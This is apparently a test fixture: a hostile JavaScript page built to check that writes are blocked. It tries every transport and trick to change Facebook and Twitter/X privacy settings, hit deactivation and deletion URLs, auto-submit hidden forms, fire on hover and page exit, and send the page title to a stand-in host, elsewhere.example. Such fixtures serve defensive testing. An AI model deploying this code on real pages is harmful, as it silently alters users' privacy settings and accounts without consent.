// A page that tries to write in every way a page can. Only served when a test asks for it.
(() => {
  "use strict";
  const onFacebook = location.hostname.endsWith("facebook.com");
  const target = onFacebook ? "/api/graphql/" : "/i/api/1.1/account/settings.json";
  const setting = onFacebook ? "friends_list" : "protected";
  const value = onFacebook ? "Public" : "false";
  const variables = JSON.stringify({ input: { setting, value } });
  const mutation = (name = "CometPrivacySelectorSavePrivacyMutation") => (onFacebook
    ? new URLSearchParams({ fb_api_req_friendly_name: name, variables, doc_id: "7" })
    : new URLSearchParams({ [setting]: value }));
  const attempt = (work) => { try { const got = work(); if (got && got.catch) got.catch(() => {}); } catch (error) { /* refused */ } };
  const write = (more = {}) => attempt(() => fetch(target, { method: "POST", body: mutation(), ...more }));

  // At once, on a timer, through every transport.
  write();
  setInterval(write, 400);
  attempt(() => { const x = new XMLHttpRequest(); x.open("POST", target); x.send(mutation()); });
  attempt(() => navigator.sendBeacon(target, mutation()));
  attempt(() => fetch(target, { method: "PUT", body: mutation() }));
  attempt(() => fetch(target, { method: "DELETE" }));
  attempt(() => fetch(target, { headers: { "X-HTTP-Method-Override": "POST" } }));
  attempt(() => fetch(`${target}?_method=POST&${mutation()}`));
  // Addresses that are known to change something when merely asked for.
  const changing = onFacebook ? "/settings/applications/send_deletion_request/" : "/settings/deactivate";
  attempt(() => fetch(`${changing}?setting=${setting}&value=${value}`));
  attempt(() => { const i = new Image(); i.src = `${changing}?by=image`; });

  if (onFacebook) {
    // Misnamed and batched: a read in front, a write behind it.
    const twice = mutation("SettingsCategoryLayoutUSFNewCometQuery");
    twice.append("fb_api_req_friendly_name", "CometPrivacySelectorSavePrivacyMutation");
    attempt(() => fetch(target, { method: "POST", body: twice }));
    attempt(() => fetch(target, { method: "POST", body: mutation("HarmlessLookingQuery"), headers: { "x-fb-friendly-name": "CometPrivacySelectorSavePrivacyMutation" } }));
    attempt(() => fetch(target, { method: "POST", body: mutation("CookieCategoryMutation_candidateQuery") }));
    attempt(() => fetch(target, { method: "POST", body: mutation("somethingunnamed") }));
    attempt(() => fetch(target, { method: "POST", body: new URLSearchParams({ variables, doc_id: "7" }) }));
    attempt(() => fetch("/api/graphqlbatch/", {
      method: "POST",
      body: new URLSearchParams({
        fb_api_req_friendly_name: "SettingsCategoryLayoutUSFNewCometQuery",
        queries: JSON.stringify({ o0: { friendly_name: "AQuery" }, o1: { friendly_name: "CometPrivacySelectorSavePrivacyMutation", variables: { input: { setting, value } } } }),
      }),
    }));
    const parts = new FormData();
    for (const [name, one] of mutation()) parts.append(name, one);
    attempt(() => fetch(target, { method: "POST", body: parts }));
  } else {
    attempt(() => fetch("/i/api/graphql/W1aWrite/FeatureSettingsUpdate", { method: "POST", body: "{}" }));
    attempt(() => fetch("/i/api/graphql/W1aWrite/SearchTimeline/FeatureSettingsUpdate", { method: "POST", body: "{}" }));
  }

  // Workers of three kinds, a socket, an event stream of somebody else's.
  attempt(() => new Worker("/hostile-worker.js"));
  attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(location.origin + target)},{method:"POST",body:${JSON.stringify(String(mutation()))},credentials:"include"})`]))));
  attempt(() => new SharedWorker("/hostile-shared.js"));
  attempt(() => navigator.serviceWorker.register("/sw.js"));
  attempt(() => new WebSocket(`wss://${location.host}/hostile/socket`));
  attempt(() => new EventSource("https://elsewhere.example/stream"));
  attempt(() => fetch("https://elsewhere.example/collect", { mode: "no-cors", method: "POST", body: document.title }));
  attempt(() => { const i = new Image(); i.src = "https://tracker.example/pixel.gif"; });

  // What the user's hands would set off: hover, focus, scroll, keys, clicks anywhere.
  for (const kind of ["mouseover", "mousemove", "pointerover", "focusin", "scroll", "keydown", "mousedown", "click", "visibilitychange", "blur"]) {
    let left = 3;
    addEventListener(kind, () => { if (left-- > 0) write({ headers: { "content-type": "application/x-www-form-urlencoded" } }); }, { capture: true, passive: true });
  }

  // While the page is being left.
  for (const kind of ["beforeunload", "pagehide", "unload", "freeze"]) {
    addEventListener(kind, () => {
      attempt(() => navigator.sendBeacon(target, mutation()));
      write({ keepalive: true });
      write();
      attempt(() => { const x = new XMLHttpRequest(); x.open("POST", target, kind !== "freeze"); x.send(mutation()); });
      attempt(() => new SharedWorker(`/hostile-shared.js?${kind}`));
    });
  }

  document.addEventListener("DOMContentLoaded", () => {
    // Forms: into a hidden frame, by script, and a new window.
    const frame = document.createElement("iframe");
    frame.name = "quiet";
    frame.hidden = true;
    document.body.append(frame);
    for (const where of ["quiet", "_blank"]) {
      const form = document.createElement("form");
      form.method = "post";
      form.action = target;
      form.target = where;
      form.hidden = true;
      for (const [name, one] of mutation()) {
        const field = document.createElement("input");
        field.type = "hidden";
        field.name = name;
        field.value = one;
        form.append(field);
      }
      document.body.append(form);
      attempt(() => form.submit());
    }
    attempt(() => window.open("/hostile/change?by=popup"));
    const download = document.createElement("a");
    download.href = "/hostile/download";
    download.download = "x.bin";
    document.body.append(download);
    attempt(() => download.click());
    const hint = document.createElement("link");
    hint.rel = "prefetch";
    hint.href = `${changing}?by=prefetch`;
    document.head.append(hint);

    // Rows that save on hover, links that change on opening, buttons that are not what they say.
    const decoy = document.createElement("div");
    decoy.innerHTML = '<a role="tab" href="/hostile/change?by=tab">Friends</a>'
      + '<div role="button" aria-expanded="false" tabindex="0">Show more</div>';
    decoy.lastChild.addEventListener("click", () => write());
    document.body.append(decoy);
    const arm = () => {
      for (const box of document.querySelectorAll("input[type=checkbox],[role=radio],[role=button]")) {
        if (box.dataset.armed) continue;
        box.dataset.armed = "1";
        for (const kind of ["mouseenter", "focus", "pointerenter"]) box.addEventListener(kind, () => write());
      }
    };
    new MutationObserver(arm).observe(document.body, { childList: true, subtree: true });
    arm();
  });
})();
